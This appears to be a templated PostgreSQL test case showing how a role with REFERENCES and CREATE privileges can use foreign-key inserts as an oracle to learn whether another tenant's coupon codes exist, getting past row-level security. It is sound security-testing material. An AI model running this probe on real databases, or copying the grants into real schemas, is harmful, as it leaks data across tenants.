-- hole: a role that may make a table can ask for the existence of any key
-- object: app.coupon
-- attack: reveal, reference
-- seen: told
-- role: {app}
-- why: REFERENCES on the coupons and CREATE on a schema: a foreign key of the role's own answers for every tenant.
CREATE ROLE {owner} NOLOGIN;
CREATE ROLE {app} LOGIN;
CREATE SCHEMA app AUTHORIZATION {owner};
CREATE SCHEMA scratchpad AUTHORIZATION {app};
SET ROLE {owner};
CREATE TABLE app.coupon (
  tenant_id bigint NOT NULL,
  code text NOT NULL,
  PRIMARY KEY (tenant_id, code)
);
ALTER TABLE app.coupon ENABLE ROW LEVEL SECURITY;
ALTER TABLE app.coupon FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON app.coupon USING (tenant_id = nullif(current_setting('app.tenant_id', true), '')::bigint);
GRANT USAGE ON SCHEMA app TO {app};
GRANT SELECT, INSERT, UPDATE, DELETE, REFERENCES ON app.coupon TO {app};
RESET ROLE;
INSERT INTO app.coupon VALUES (1, 'SPRING'), (2, 'HALF');

-- session 1 as {app}
SET app.tenant_id = '1';
CREATE TABLE scratchpad.guess (
  tenant_id bigint,
  code text,
  FOREIGN KEY (tenant_id, code) REFERENCES app.coupon (tenant_id, code)
);
INSERT INTO scratchpad.guess VALUES (2, 'HALF');
-- gives: INSERT 1
INSERT INTO scratchpad.guess VALUES (2, 'FULL');
-- fails: 23503
